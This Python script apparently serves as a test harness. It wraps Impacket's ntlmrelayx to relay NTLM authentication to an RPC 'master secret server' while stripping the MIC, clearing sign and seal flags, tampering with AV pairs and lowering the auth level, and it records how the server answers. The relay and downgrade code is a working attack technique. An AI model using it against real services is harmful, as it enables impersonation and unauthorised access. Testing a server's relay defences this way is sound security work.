"""Impacket's ntlmrelayx between a client and the master secret server.

    ntlm_relay.py JSON        (or `-` to read its first line from standard input)

  host, port                    the server
  remove                        list of `mic`, `sign_seal` and `target`: its options of these names
  twice                         the AvId of a pair that the CHALLENGE has twice on its way to the client
  other                         the AvId of a name that is another one on the way
  clear                         NegotiateFlags that all three messages lose on the way
  level                         of the bind to the server: 2 as ntlmrelayx has it (default), or 6

Towards the client it is ntlmrelayx's RPC server, towards the master secret server its RPC client. That one relays to two other
interfaces and knows no options, so both are added here; the options are done as by its LDAP client.

Prints {"port": ..} on a line and relays until its input ends. Then it prints {"answers": [...]}: what the server said to each call that
was made as the client, {"stub": hex}, {"fault": number} or {"error": text}.
"""

import importlib.abc
import importlib.machinery
import json
import sys
import time
from unittest.mock import MagicMock

# What ntlmrelayx imports for protocols that are not relayed here.
OTHER_PROTOCOLS = {"ldap3", "OpenSSL", "ldapdomaindump", "flask", "dns", "dsinternals"}


class OtherProtocols(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self, is_package=True) if name.split(".")[0] in OTHER_PROTOCOLS else None

    def create_module(self, spec):
        return MagicMock(__path__=[], __spec__=spec)

    def exec_module(self, module):
        pass


sys.meta_path.append(OtherProtocols())

from impacket import ntlm
from impacket.dcerpc.v5 import rpcrt
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.examples.ntlmrelayx.clients import ProtocolClient, rpcrelayclient
from impacket.examples.ntlmrelayx.servers.rpcrelayserver import RPCRelayServer
from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
from impacket.examples.ntlmrelayx.utils.targetsutils import TargetsProcessor
from impacket.nt_errors import STATUS_ACCESS_DENIED, STATUS_SUCCESS
from impacket.uuid import uuidtup_to_bin

from sso_client import INTERFACE, fault_of

given = json.loads(sys.stdin.readline() if sys.argv[1] == "-" else sys.argv[1])
REMOVE = given.get("remove", [])
answers = []


def cleared(message, *flags):
    for flag in flags:
        message["flags"] &= ~flag
    message["flags"] &= ~given.get("clear", 0)


def changed_pairs(pairs):
    """The list of a CHALLENGE as the client is to see it."""
    out, at = b"", 0
    while True:
        number, length = int.from_bytes(pairs[at:at + 2], "little"), int.from_bytes(pairs[at + 2:at + 4], "little")
        pair = pairs[at:at + 4 + length]
        if number == given.get("other"):
            pair = pair[:4] + "X".encode("utf-16le") + pair[6:]
        out += pair * (2 if number == given.get("twice") else 1)
        at += 4 + length
        if number == 0:
            return out


class MasterSecretClient(rpcrelayclient.RPCRelayClient):
    def __init__(self, config, target):
        ProtocolClient.__init__(self, config, target, target.port)
        self.endpoint_uuid = uuidtup_to_bin(INTERFACE)
        self.stringbinding = f"ncacn_ip_tcp:{given['host']}[{given['port']}]"

    def sendNegotiate(self, token):
        message = ntlm.NTLMAuthNegotiate()
        message.fromString(token)
        sign = (ntlm.NTLMSSP_NEGOTIATE_SIGN, ntlm.NTLMSSP_NEGOTIATE_ALWAYS_SIGN) if REMOVE and REMOVE != ["target"] else ()
        seal = (ntlm.NTLMSSP_NEGOTIATE_SEAL,) if "sign_seal" in REMOVE else ()
        cleared(message, *sign, *seal)
        try:
            challenge = super().sendNegotiate(message.getData() if sign or given.get("clear") else token)
        except Exception as error:
            answers.append({"error": f"{type(error).__name__}: {error}"})
            raise
        cleared(challenge)
        # Impacket leaves an empty Version out without moving what follows it.
        challenge["Version"], challenge["VersionLen"] = bytes(8), 8
        pairs = changed_pairs(challenge["TargetInfoFields"])
        challenge["TargetInfoFields"] = pairs
        challenge["TargetInfoFields_len"] = challenge["TargetInfoFields_max_len"] = len(pairs)
        return challenge

    def sendAuth(self, token, serverChallenge=None):
        message = ntlm.NTLMAuthChallengeResponse()
        message.fromString(token)
        if "mic" in REMOVE:
            cleared(message, ntlm.NTLMSSP_NEGOTIATE_SIGN, ntlm.NTLMSSP_NEGOTIATE_ALWAYS_SIGN, ntlm.NTLMSSP_NEGOTIATE_KEY_EXCH,
                    ntlm.NTLMSSP_NEGOTIATE_VERSION)
            for name, empty in (("MIC", b""), ("MICLen", 0), ("Version", b""), ("VersionLen", 0)):
                message[name] = empty
        if "sign_seal" in REMOVE:
            cleared(message, ntlm.NTLMSSP_NEGOTIATE_SIGN, ntlm.NTLMSSP_NEGOTIATE_ALWAYS_SIGN, ntlm.NTLMSSP_NEGOTIATE_SEAL)
        if given.get("clear"):
            cleared(message)
        relayed = message.getData() if given.get("clear") or set(REMOVE) & {"mic", "sign_seal"} else token
        self.session.sendBindType3(relayed)
        # It has no key, so its call is as it is.
        self.session.set_auth_level(rpcrt.RPC_C_AUTHN_LEVEL_NONE)
        try:
            self.session.call(0, bytes.fromhex("10000000"))
            answers.append({"stub": self.session.recv().hex()})
            return None, STATUS_SUCCESS
        except DCERPCException as error:
            answers.append({"fault": fault_of(error)})
        except Exception as error:  # Impacket raises bare exceptions where a connection ends.
            answers.append({"error": f"{type(error).__name__}: {error}"})
        return None, STATUS_ACCESS_DENIED


def main():
    rpcrelayclient.RPC_C_AUTHN_LEVEL_CONNECT = given.get("level", rpcrt.RPC_C_AUTHN_LEVEL_CONNECT)
    config = NTLMRelayxConfig()
    config.setTargets(TargetsProcessor(singleTarget=f"rpc://{given['host']}:{given['port']}"))
    config.interfaceIp, config.listeningPort = "127.0.0.1", 0
    config.protocolClients, config.attacks = {"RPC": MasterSecretClient}, {}
    config.setExploitOptions("mic" in REMOVE, "target" in REMOVE, "sign_seal" in REMOVE)
    relay = RPCRelayServer(config)
    relay.start()
    deadline = time.monotonic() + 30
    while relay.server is None:
        if time.monotonic() > deadline:
            raise TimeoutError("ntlmrelayx does not listen")
        time.sleep(0.01)
    print(json.dumps({"port": relay.server.server_address[1]}), flush=True)
    sys.stdin.read()
    print(json.dumps({"answers": answers}))


if __name__ == "__main__":
    main()
